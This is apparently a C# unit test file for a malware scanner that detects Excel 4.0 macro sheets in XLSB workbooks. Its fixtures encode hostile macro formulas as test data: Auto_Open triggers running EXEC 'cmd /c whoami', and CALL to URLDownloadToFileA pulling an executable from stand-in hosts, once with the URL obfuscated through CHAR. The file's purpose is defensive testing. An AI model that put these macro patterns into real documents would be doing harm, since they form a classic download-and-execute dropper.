using Crible.Model;
using Crible.Scanners.Office.Xlm;
using static Crible.Tests.Scanners.Office.Xlm.XlsbTestFiles;

namespace Crible.Tests.Scanners.Office.Xlm;

/// <summary>Excel 4.0 macro sheets of XLSB packages (BIFF12 records) built by the tests.</summary>
public sealed class XlsbMacroSheetTests
{
    private const int Exec = 110;
    private const int Call = 150;
    private const int Char = 111;
    private const int Sum = 4;

    [Fact]
    public async Task A_very_hidden_XLSB_macro_sheet_that_opens_itself_and_runs_EXEC_is_malicious_with_the_formula_as_evidence()
    {
        var xlsb = Package(2, ["_xlnm.Auto_Open"], StringFormula(0, [.. Str("calc"), .. FuncVar(1, Exec)]));

        var report = await TestEngine.Default.AnalyseAsync(xlsb, "book.xlsb");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var payload = Assert.Single(report.Nodes[0].Findings, f => f.Id == "xlm-auto-exec-payload");
        Assert.Contains("Macro1!A1: EXEC \"calc\" | =EXEC(\"calc\")", payload.Evidence, StringComparison.Ordinal);
        Assert.Contains("_xlnm.Auto_Open", payload.Evidence, StringComparison.Ordinal);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "xlm-hidden-macro-sheet" && f.Evidence == "Macro1 (VeryHidden)");
        Assert.Empty(report.Nodes[0].Incomplete);
    }

    [Fact]
    public async Task An_XLSB_CALL_to_URLDownloadToFileA_without_Auto_Open_is_suspicious_and_gives_its_URL()
    {
        byte[] call = [.. Str("urlmon"), .. Str("URLDownloadToFileA"), .. Str("JJCCJJ"), .. Integer(0), .. Str("http://dl.example.net/x"), .. Str("c:\\x.exe"), .. Integer(0), .. Integer(0), .. FuncVar(8, Call)];
        var xlsb = Package(0, ["Print_Area"], NumberFormula(1, call));

        var report = await TestEngine.Default.AnalyseAsync(xlsb, "book.xlsb");

        Assert.NotEqual(Verdict.Malicious, report.Verdict);
        var execute = Assert.Single(report.Nodes[0].Findings, f => f.Id == "xlm-execute");
        Assert.Equal(Severity.Suspicious, execute.Severity);
        Assert.Contains("Macro1!B1: CALL", execute.Evidence, StringComparison.Ordinal);
        Assert.Contains("=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://dl.example.net/x\",\"c:\\x.exe\",0,0)", execute.Evidence, StringComparison.Ordinal);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://dl.example.net/x");
    }

    [Fact]
    public async Task A_URL_spelled_with_CHAR_in_an_XLSB_formula_is_folded_into_an_indicator()
    {
        byte[] url = [.. Integer(104), .. Func(Char), .. Str("ttp://x4.example.org/p"), .. Concat];
        var xlsb = Package(1, ["Auto_Open"], StringFormula(0, [.. Str("urlmon"), .. Str("URLDownloadToFileA"), .. Str("JJCCJJ"), .. Integer(0), .. url, .. Str("p.exe"), .. Integer(0), .. Integer(0), .. FuncVar(8, Call)]));

        var report = await TestEngine.Default.AnalyseAsync(xlsb, "book.xlsb");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://x4.example.org/p");
        Assert.Contains("CHAR(104)&\"ttp://x4.example.org/p\"", Assert.Single(report.Nodes[0].Findings, f => f.Id == "xlm-auto-exec-payload").Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task EXEC_in_an_XLSB_shared_formula_is_found_with_the_range_it_covers()
    {
        var xlsb = Package(0, ["Auto_Open"], SharedFormula(3, [.. Str("cmd /c whoami"), .. FuncVar(1, Exec)]));

        var report = await TestEngine.Default.AnalyseAsync(xlsb, "book.xlsb");

        Assert.Contains("Macro1!A1:A3: EXEC \"cmd /c whoami\"", Assert.Single(report.Nodes[0].Findings, f => f.Id == "xlm-auto-exec-payload").Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_XLSB_macro_sheet_that_only_adds_numbers_stays_clean()
    {
        byte[] sum = [.. Area(1, 9, 0), 0x19, 0x10, 0, 0];
        var xlsb = Package(0, ["Print_Area"], NumberFormula(0, [.. Integer(1), .. Integer(2), .. FuncVar(2, Sum)]), NumberFormula(1, sum));

        var report = await TestEngine.Default.AnalyseAsync(xlsb, "book.xlsb");

        Assert.Equal(Verdict.Clean, report.Verdict);
        Assert.Equal("Macro1 (Visible)", Assert.Single(report.Nodes[0].Findings, f => f.Id == "xlm-macro-sheet").Evidence);
        Assert.DoesNotContain(report.Nodes[0].Findings, f => f.Scanner == "xlm-ooxml" && f.Severity != Severity.Info);
    }

    [Fact]
    public async Task A_truncated_XLSB_macro_sheet_keeps_the_formulas_read_before_the_damage_and_says_so()
    {
        var sheet = MacroSheet(StringFormula(0, [.. Str("calc"), .. FuncVar(1, Exec)]), StringFormula(1, [.. Str("notepad"), .. FuncVar(1, Exec)]));
        var xlsb = Package(Workbook(0, "Auto_Open"), sheet[..^12]);

        var report = await TestEngine.Default.AnalyseAsync(xlsb, "book.xlsb");

        Assert.Contains("Macro1!A1: EXEC \"calc\"", Assert.Single(report.Nodes[0].Findings, f => f.Id == "xlm-auto-exec-payload").Evidence, StringComparison.Ordinal);
        Assert.Contains(report.Nodes[0].Incomplete, r => r.StartsWith("xlm-ooxml: the record 8 at offset", StringComparison.Ordinal));
    }

    [Fact]
    public void Record_types_and_sizes_over_127_take_two_bytes_of_seven_bits()
    {
        var body = new byte[300];
        byte[] part = [.. Record(427, body), .. Record(8, [1, 2])];

        var records = Biff12Records.Read(part, []);

        Assert.Equal([new Biff12Record(427, 4, 300), new Biff12Record(8, 306, 2)], records);
        Assert.Equal([0xAB, 0x03, 0xAC, 0x02], part[..4]);
    }

    [Fact]
    public void Formula_text_is_rebuilt_from_BIFF12_tokens_with_their_wider_operands()
    {
        byte[] reference = [0x44, .. BitConverter.GetBytes(70_000), .. BitConverter.GetBytes((ushort)(2 | 0xC000))];

        var command = XlsbFormula.Read([.. reference, .. Str("a\"b"), .. Concat, .. FuncVar(1, 0x60, command: true)], []);
        var userDefined = XlsbFormula.Read([0x23, 1, 0, 0, 0, .. Str("x"), .. FuncVar(2, 255)], ["Payload"]);

        Assert.Equal("=FORMULA(C70001&\"a\"\"b\")", command.Text);
        Assert.Equal(["FORMULA"], command.Calls);
        Assert.Equal("=Payload(\"x\")", userDefined.Text);
        Assert.Equal(["Payload"], userDefined.Calls);
    }

    [Fact]
    public void A_formula_whose_tokens_are_cut_keeps_the_calls_read_and_gives_no_text()
    {
        byte[] rgce = [.. Str("calc"), .. FuncVar(1, Exec), .. Str("rest")];

        var formula = XlsbFormula.Read(rgce.AsSpan(0, rgce.Length - 3), []);

        Assert.Equal(["EXEC"], formula.Calls);
        Assert.Equal(["calc"], formula.Strings);
        Assert.Null(formula.Text);
    }
}
